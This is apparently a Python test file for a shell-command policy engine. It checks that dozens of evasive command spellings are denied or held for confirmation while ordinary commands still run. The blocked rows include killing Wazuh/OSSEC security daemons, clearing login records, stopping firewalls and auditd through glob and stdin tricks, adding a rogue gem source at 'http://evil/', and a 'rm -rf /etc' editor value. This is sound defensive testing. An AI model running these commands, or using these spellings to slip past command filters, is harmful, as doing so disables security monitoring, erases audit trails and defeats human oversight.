"""Attack z35f, findings 1, 8, 9, 10, 13, 14, 15, 18 and 19: spellings of scripts, verbs and
options. getopt_long starts of lastlog's/lastlog2's `--clear`/`--set` and iptables' `--policy`;
RubyGems' command starts (`gem so --add`); the Wazuh/OSSEC daemons killed by name; wtmpdb's
`rotate`/`import`; an init script given to a shell after a lone `-`, on its stdin or a
descriptor, or through a pattern; a verb spelled as a pattern for more verb-keyed programs; an
interpreter given a known tool's own script (`sh /usr/sbin/service ufw stop`).

Each line is judged typed at a terminal and as an exec command: the attacker's lines and their
siblings are held at the level of their plain spelling (`deny` where `lastlog --clear`,
`sh /etc/init.d/ufw stop` are refused; `confirm` where `iptables -P INPUT ACCEPT` is held), and
the honest lines beside them still run (`allow`: reading the login records, listing the
firewall, the gem sources, killing one's own programs, running one's own scripts with a shell)."""

from bastion.command_control import policy
from tests.policy_rows import assert_held_or_runs, typed_and_exec
from tests.rows import each

ROWS = [
    # 1: lastlog's and lastlog2's long options by a unique start
    ("lastlog --c -u root", "deny"), ("lastlog -u root --c", "deny"),
    ("lastlog --s -u root", "deny"), ("lastlog --cle -u root", "deny"),
    ("lastlog2 --s -u root", "deny"), ("lastlog2 --s root", "deny"), ("lastlog2 --se root", "deny"),
    # 10: iptables' --policy by a unique start
    ("iptables --po INPUT ACCEPT", "confirm"), ("iptables --po=INPUT ACCEPT", "confirm"),
    ("ip6tables --po FORWARD ACCEPT", "confirm"), ("iptables-legacy --po INPUT ACCEPT", "confirm"),
    ("iptables -w --po INPUT ACCEPT", "confirm"), ("iptables -t filter --po INPUT ACCEPT", "confirm"),
    ("iptables-nft --poli INPUT ACCEPT", "confirm"), ("swapon --a", "confirm"), ("swapon --al", "confirm"),
    # 13: the HIDS daemons killed by name or pattern
    ("pkill wazuh-agentd", "deny"), ("killall -9 ossec-agentd", "deny"), ("pkill -f wazuh", "deny"),
    ("pkill -STOP wazuh-agentd", "deny"), ("pkill wazuh-logcollec", "deny"),
    ("pkill wazuh-syscheckd", "deny"), ("killall wazuh-modulesd", "deny"),
    ("pkill -f /var/ossec/bin", "deny"), ("killall -r ossec", "deny"),
    ("systemctl stop wazuh-agent", "deny"), ("systemctl disable wazuh-manager.service", "deny"),
    ("service wazuh-agent stop", "deny"), ("/etc/init.d/wazuh-agent stop", "deny"),
    ("sh /etc/init.d/wazuh-agent stop", "deny"), ("start-stop-daemon -K -n wazuh-agentd", "deny"),
    # 15: wtmpdb's verbs that rewrite the login records
    ("wtmpdb rotate -d 0", "deny"), ("wtmpdb rotate", "deny"),
    ("wtmpdb import /tmp/forged.wtmp", "deny"), ("wtmpdb -f /var/lib/wtmpdb/wtmp.db rotate", "deny"),
    # 18: RubyGems' command by a unique start
    ("gem source --add http://evil/", "confirm"), ("gem sourc -a http://evil/", "confirm"),
    ("gem so --add=http://evil/", "confirm"), ("gem sources --add http://evil/", "confirm"),
    # 8: an init script given to a shell through a pattern, on stdin or a descriptor, sourced
    ("sh /etc/init.?/ufw stop", "deny"), ("sh /e*/init.d/ufw stop", "deny"),
    ("sh /etc/rc?.d/K01ufw stop", "deny"), ("sh /proc/self/root/etc/init.d/uf[w] stop", "deny"),
    ("sh /proc/[s]elf/root/etc/init.d/ufw stop", "deny"), ("sh /proc/*/root/etc/init.d/ufw stop", "deny"),
    (". /etc/init.?/ufw stop", "deny"), ("bash -eo pipefail /etc/init.?/ufw stop", "deny"),
    ("sudo sh /etc/init.?/ufw stop", "deny"), ("cd /etc && sh init.?/ufw stop", "deny"),
    ("sh ~root/../etc/init.d/ufw stop", "deny"), ("sh /lib/ufw/ufw-ini? flush-all", "deny"),
    ("sh /etc/init.d/a* stop", "deny"),
    ("sh /usr/share/netfilter-persistent/plugins.d/15-ip4tables flush", "deny"),
    ("sh /usr/share/netfilter-persistent/plugins.d/15-ip4table? flush", "deny"),
    ("sh -s stop < /etc/init.d/ufw", "deny"), ("bash -s stop < /etc/init.d/auditd", "deny"),
    ("sh /dev/stdin stop < /etc/init.d/ufw", "deny"), ("sh /dev/fd/3 stop 3</etc/init.d/ufw", "deny"),
    ("sh -c '. /etc/init.d/ufw' x stop", "deny"), ("bash -c 'source /etc/init.d/auditd' x stop", "deny"),
    ("""bash -c '. /etc/init.d/ufw "$@"' x stop""", "deny"), ("sh -c '. /etc/init.d/ufw $1' x stop", "deny"),
    # 14: a lone `-` ends the shell's options
    ("bash - /etc/init.d/ufw stop", "deny"), ("sh - /etc/init.d/ufw stop", "deny"),
    ("bash -e - /etc/init.d/auditd stop", "deny"), ("sudo bash - /etc/init.d/ufw stop", "deny"),
    ("bash - /lib/ufw/ufw-init flush-all", "deny"),
    # 13, 19: a program's own script given to a shell or an interpreter
    ("sh /var/ossec/bin/wazuh-control stop", "deny"), ("bash /var/ossec/bin/ossec-control stop", "deny"),
    ("sh /usr/sbin/service ufw stop", "deny"), ("bash /usr/sbin/service auditd stop", "deny"),
    ("sh /sbin/service ufw stop", "deny"), (". /usr/sbin/service ufw stop", "deny"),
    ("sh /usr/sbin/invoke-rc.d ufw stop", "deny"), ("bash - /usr/sbin/service ufw stop", "deny"),
    ("python3 /usr/sbin/ufw disable", "deny"), ("python3 /usr/sbin/ufw --force reset", "deny"),
    ("python3 -E /usr/bin/fail2ban-client stop", "deny"),
    ("perl /usr/sbin/update-rc.d auditd disable", "deny"),
    ("perl /usr/bin/deb-systemd-invoke stop auditd.service", "deny"),
    ("python3 /usr/bin/pip3 config set global.log /etc/sudoers", "deny"),
    ("python3 /usr/local/bin/pip config set global.log /etc/sudoers", "deny"),
    ("python3 /usr/bin/pip3 config edit --editor 'rm -rf /etc'", "deny"),
    ("perl -S update-rc.d auditd disable", "deny"), ("sh /bin/../usr/sbin/service ufw stop", "deny"),
    ("python3 -W ignore /usr/sbin/ufw disable", "deny"), ("cd /usr/sbin && python3 ufw disable", "deny"),
    ("cd /usr/sbin && sh service ufw stop", "deny"),
    ("node /usr/bin/npm config set script-shell /tmp/x", "confirm"),
    ("env python3 /usr/sbin/ufw disable", "deny"),
    # 9: a verb spelled as a pattern (a file of its name in the working folder) for more programs
    *((f"cd /tmp/w && touch stop disable off permissive && {line}", level) for line, level in [
        ("dinitctl sto[p] auditd", "deny"), ("dinitctl disabl[e] auditd", "deny"),
        ("systemd-sysv-install disabl[e] auditd", "deny"), ("sysv-rc-conf auditd of[f]", "deny"),
        ("ossec-control sto[p]", "deny"), ("wazuh-control sto?", "deny"),
        ("semanage permissiv[e] -a httpd_t", "deny"), ("fail2ban-client set sshd idl[e] on", "deny"),
        ("setsebool deny_ptrac[e] 0", "confirm"), ("ipset flus[h]", "confirm"),
        ("monit sto[p] all", "confirm"), ("portablectl attac[h] /tmp/img", "confirm"),
        ("systemd-sysext merg[e]", "confirm"), ("realm leav[e]", "confirm"),
        ("wtmpdb rotat[e]", "deny"),
    ]),
]

HONEST = [
    "lastlog -u root", "lastlog -b 30", "lastlog --time 7", "lastlog2 -u root", "lastlog2 --user root",
    "iptables -L -n", "iptables --policy INPUT DROP", "iptables --po INPUT DROP",
    "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "swapon --show", "swapon --summary",
    "pkill -f my-worker", "killall myapp", "systemctl status wazuh-agent",
    "systemctl restart wazuh-agent", "node app.js", "php artisan migrate", "node /usr/bin/npm ls",
    "/var/ossec/bin/wazuh-control status", "wtmpdb last", "wtmpdb last -n 10",
    "gem sources --list", "gem so --list", "gem search rails", "gem install rails",
    "sh ./build.sh", "bash deploy.sh prod", "sh -c 'echo hi' x y", "bash -s < setup.sh",
    "sh -s arg < ./install.sh", "bash - ./run.sh start", "sh /usr/bin/ldd /bin/ls",
    "python3 manage.py migrate", "python3 /usr/bin/pip3 list", "sh /etc/init.d/nginx status",
    "sh /etc/init.?/nginx status", "sh -c '. ./env.sh' x stop", "bash /usr/sbin/service nginx restart",
    "sh /usr/sbin/service ufw status", "ruby -S rake test", "perl -S prove t/", "bash -x ./t.sh",
    "python3 -c 'print(1)' /usr/sbin/ufw", "ls /etc/init.?/", "cat /etc/init.d/ufw",
    "semanage fcontext -l", "ipset list", "ipset add blocklist 10.0.0.1", "monit status",
    "loginctl list-sessions", "dinitctl list", "realm list", "systemd-sysext status",
    "setsebool -P httpd_can_network_connect 1", "dinitctl status nginx", "ls *.log",
]


@each(("line", "expected"), ROWS)
def test_attack_z35f_a_lines(default_policy, line: str, expected: str) -> None:
    for verdict in typed_and_exec(default_policy, line):
        assert verdict.action == expected, verdict


@each("line", HONEST)
def test_attack_z35f_a_honest_lines_run(default_policy, line: str) -> None:
    assert_held_or_runs(default_policy, line, held=False)


# 19: a console's own script given to its interpreter reads the exec channel's stdin as the
# console does (held by the stdin gate); a script of one's own does not.
@each(("line", "held"), [
    ("ruby -S irb", True), ("ruby -wS irb", True), ("ruby /usr/bin/irb", True), ("ruby -S pry", True),
    ("ruby -S bundle exec rails console", True), ("ruby -S bundle exec ruby", True),
    ("python3 /usr/bin/ipython3", True), ("python3 /usr/local/bin/ipython", True),
    ("perl -S cpan", True), ("perl /usr/bin/cpan", True), ("ruby -S erb", True),
    ("ruby -S rake test", False), ("python3 manage.py migrate", False),
])
def test_attack_z35f_a_stdin_consoles(line: str, held: bool) -> None:
    assert (policy.reads_script_from_stdin(line) is not None) == held
